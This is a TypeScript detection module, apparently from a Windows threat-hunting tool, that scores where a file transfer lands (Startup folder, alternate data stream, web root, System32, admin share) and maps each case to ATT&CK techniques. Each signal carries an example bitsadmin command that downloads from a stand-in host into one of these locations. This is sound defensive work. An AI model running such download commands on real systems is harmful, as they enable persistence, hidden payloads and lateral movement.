/** Where the file lands, or from where it leaves. */
import type { Place } from '../../windows/index.js';
import { isAdminShare, isInstalled, isProgram, isScript, isStaging, isStartup, isSystemFolder, isUserWritable, isWebRoot, landings } from '../places.js';
import type { Example, Reason, Signal } from '../signal.js';
import { placeText } from '../words.js';

function landing(holds: (place: Place) => boolean, sentence: (name: string) => string): Reason {
  return (facts) => {
    const place = landings(facts).find(holds);
    return place && sentence(placeText(place));
  };
}

const to = (path: string): readonly Example[] => [{ process_name: 'bitsadmin.exe', process: `bitsadmin /transfer job https://files.example.net/a ${path}` }];

export const destinationSignals: readonly Signal[] = [
  { id: 'destination-startup', family: 'destination', impact: 90, confidence: 80, techniques: ['T1197', 'T1547.001'], reason: landing(isStartup, (name) => `${name} is started whenever a user logs on`), examples: to('"C:\\Users\\pat\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"') },
  { id: 'destination-stream', family: 'destination', impact: 85, confidence: 80, techniques: ['T1564.004'], reason: landing(({ stream }) => stream !== undefined, (name) => `${name} is an alternate data stream, which a directory listing does not show`), examples: to('C:\\d\\a.txt:b.exe') },
  { id: 'destination-webroot', family: 'destination', impact: 85, confidence: 70, techniques: ['T1105'], reason: landing((place) => isWebRoot(place) && isScript(place), (name) => `${name} is a script in the folder of a web server`), examples: to('C:\\inetpub\\wwwroot\\a.aspx') },
  { id: 'destination-system', family: 'destination', impact: 80, confidence: 60, techniques: ['T1105'], reason: landing((place) => isSystemFolder(place) && (isProgram(place) || isScript(place)), (name) => `${name} lies among the programs of Windows`), examples: to('C:\\Windows\\System32\\a.dll') },
  { id: 'destination-admin-share', family: 'destination', impact: 85, confidence: 68, techniques: ['T1197', 'T1570'], reason: landing(isAdminShare, (name) => `${name} is an administrative share of another machine`), examples: to('\\\\srv07\\admin$\\a') },
  { id: 'destination-script', family: 'destination', impact: 75, confidence: 48, techniques: ['T1105'], reason: landing(isScript, (name) => `${name} is a script that Windows runs`), examples: to('C:\\d\\a.ps1') },
  { id: 'destination-program', family: 'destination', impact: 75, confidence: 30, techniques: ['T1105'], reason: landing(isProgram, (name) => `${name} is a program`), examples: to('C:\\d\\a.exe') },
  { id: 'destination-user-program', family: 'destination', impact: 80, confidence: 50, techniques: ['T1105'], reason: landing((place) => isProgram(place) && isUserWritable(place) && !isInstalled(place), (name) => `${name} is a program in a folder that any user may write to`), examples: to('C:\\Users\\pat\\AppData\\Roaming\\a.exe') },
  { id: 'destination-staging', family: 'destination', impact: 65, confidence: 40, techniques: ['T1197'], reason: landing(isStaging, (name) => `${name} lies in a folder where files are left rather than kept`), examples: to('C:\\Users\\Public\\a') },
  { id: 'destination-user-folder', family: 'destination', impact: 55, confidence: 15, techniques: ['T1197'], reason: landing((place) => isUserWritable(place) && !isStaging(place), (name) => `${name} lies in a folder that any user may write to`), examples: to('C:\\ProgramData\\a') },
];
